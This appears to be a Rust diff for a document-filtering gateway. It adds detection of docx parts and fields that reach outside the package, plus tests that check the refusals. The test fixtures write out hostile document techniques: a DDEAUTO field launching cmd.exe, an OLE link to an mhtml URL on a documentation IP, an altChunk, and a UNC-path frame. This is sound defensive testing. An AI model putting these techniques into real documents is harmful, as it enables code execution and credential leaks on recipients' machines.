@@ -15,7 +15,7 @@
 //! ```
 
 use crate::content::archive::{self, Budget, Input, Kind, Limits, Visitor};
-use crate::content::{Scan, apple, doc, pdf, text};
+use crate::content::{Scan, apple, doc, pdf, reach, text};
 use crate::core::reason::{Reason, Refusal};
 use crate::policy::{Detected, EXECUTABLE, HEAD_LEN, Policy, detect};
 use std::borrow::Cow;
@@ -323,6 +323,16 @@ fn reader_of<'a>(input: Input<'a>) -> Box<dyn Read + 'a> {
     }
 }
 
+/// [`prefixed`], unless the detail already names the part (the reach checks do).
+fn prefixed_once(at: &str, r: Refusal) -> Refusal {
+    let part = at.trim_start_matches("part ").trim_end_matches(": ");
+    if r.detail.starts_with(at) || r.detail.starts_with(part) {
+        r
+    } else {
+        prefixed(at, r)
+    }
+}
+
 fn prefixed(at: &str, r: Refusal) -> Refusal {
     if at.is_empty() {
         r
@@ -429,13 +439,30 @@ impl Visitor for Parts<'_> {
             )));
         }
         let lower = path.to_ascii_lowercase();
-        if lower.ends_with(".xml") || lower.ends_with(".rels") || doc::is_text_part(path) {
-            if !policy.reads_text() {
-                return Ok(Ok(()));
-            }
+        // relationships: what the package reaches outside itself, whatever the text rules
+        if lower.ends_with(".rels") {
             let mut input = BufReader::new(reader);
+            return reach::relationships(&mut input, path, policy.hyperlinks);
+        }
+        // every XML part is read: fields and links that reach outside are refused in the
+        // same pass as the text rules (when the policy has any) see its text
+        if lower.ends_with(".xml") || doc::is_text_part(path) {
+            let mut input = BufReader::new(reader);
+            let mut watch = reach::Watch::new(path, policy.hyperlinks);
+            let reads_text = policy.reads_text();
             let mut lines = Lines::new(policy, false, &at);
-            return doc::xml_text(&mut input, &mut |l| lines.refuse_only(l));
+            return doc::xml_text_watched(
+                &mut input,
+                &mut |l| {
+                    if reads_text {
+                        lines.refuse_only(l)
+                    } else {
+                        Ok(())
+                    }
+                },
+                &mut watch,
+            )
+            .map(|v| v.map_err(|r| prefixed_once(&at, r)));
         }
         let head = read_head(reader)?;
         let ext = crate::policy::extension(path).unwrap_or_default();
@@ -662,6 +689,124 @@ mod tests {
             .unwrap_err();
         assert_eq!(refusal.reason, Reason::TextEncoding, "{refusal}");
         assert!(refusal.detail.contains("UTF-16"), "{refusal}");
+    }
+
+    /// A docx of the given extra parts over a minimal document saying `body`.
+    fn docx(body: &str, extra: &[(&str, &str)]) -> Vec<u8> {
+        use std::io::Write as _;
+        let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+        let opts = zip::write::SimpleFileOptions::default();
+        let document = format!(
+            r#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>"#
+        );
+        let mut parts = vec![
+            ("[Content_Types].xml", r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#.to_string()),
+            ("_rels/.rels", r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#.to_string()),
+            ("word/document.xml", document),
+        ];
+        parts.extend(extra.iter().map(|(n, x)| (*n, x.to_string())));
+        for (name, xml) in parts {
+            w.start_file(name, opts).unwrap();
+            w.write_all(xml.as_bytes()).unwrap();
+        }
+        w.finish().unwrap().into_inner()
+    }
+
+    fn paragraph(text: &str) -> String {
+        format!("<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
+    }
+
+    const DOC_RELS: &str = "word/_rels/document.xml.rels";
+
+    fn rels(kind: &str, target: &str, external: bool) -> String {
+        let mode = if external {
+            r#" TargetMode="External""#
+        } else {
+            ""
+        };
+        format!(
+            r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>"#
+        )
+    }
+
+    #[test]
+    fn the_real_world_remote_template_is_refused_as_active_content() {
+        let refusal = judge(
+            &inbound(),
+            "remote-template.docx",
+            &case("to-court/remote-template.docx"),
+        )
+        .0
+        .unwrap_err();
+        assert_eq!(refusal.reason, Reason::ActiveContent, "{refusal}");
+        assert!(
+            refusal
+                .detail
+                .contains("word/_rels/settings.xml.rels: attachedTemplate → external http target"),
+            "{refusal}"
+        );
+    }
+
+    #[test]
+    fn documents_that_reach_outside_are_refused_and_their_twins_cross() {
+        let body = paragraph("民事起诉状");
+        let hyperlink = rels("hyperlink", "https://www.court.gov.cn/", true);
+        let twin = docx(&body, &[(DOC_RELS, &hyperlink)]);
+        for p in [inbound(), outbound()] {
+            assert_eq!(
+                judge(&p, "起诉状.docx", &twin).0,
+                Ok(0),
+                "ordinary hyperlinks cross"
+            );
+        }
+        let dde = format!(
+            r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\windows\system32\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>{body}"#
+        );
+        let hostile: Vec<(&str, Vec<u8>, &str)> = vec![
+            ("DDE field", docx(&dde, &[]), "field DDEAUTO"),
+            (
+                "mhtml OLE link",
+                docx(
+                    &body,
+                    &[(
+                        DOC_RELS,
+                        &rels(
+                            "oleObject",
+                            "mhtml:http://198.51.100.7/a.html!x-usc:http://198.51.100.7/a",
+                            true,
+                        ),
+                    )],
+                ),
+                "oleObject → external mhtml",
+            ),
+            (
+                "altChunk",
+                docx(&body, &[(DOC_RELS, &rels("aFChunk", "afchunk.mht", false))]),
+                "altChunk",
+            ),
+            (
+                "UNC frame",
+                docx(
+                    &body,
+                    &[(
+                        DOC_RELS,
+                        &rels("frame", r"\\198.51.100.7\share\f.html", true),
+                    )],
+                ),
+                "frame → external UNC",
+            ),
+        ];
+        for (what, bytes, detail) in hostile {
+            let refusal = judge(&inbound(), "起诉状.docx", &bytes).0.unwrap_err();
+            assert_eq!(refusal.reason, Reason::ActiveContent, "{what}: {refusal}");
+            assert!(refusal.detail.contains(detail), "{what}: {refusal}");
+        }
+        // a policy that refuses hyperlinks refuses the twin
+        let strict = include_str!("../../policy/to-internet.toml")
+            .replace("hyperlinks = \"allow\"", "hyperlinks = \"refuse\"");
+        let strict = Policy::parse(Path::new("strict.toml"), &strict).unwrap();
+        let refusal = judge(&strict, "起诉状.docx", &twin).0.unwrap_err();
+        assert_eq!(refusal.reason, Reason::ActiveContent, "{refusal}");
     }
 
     #[test]
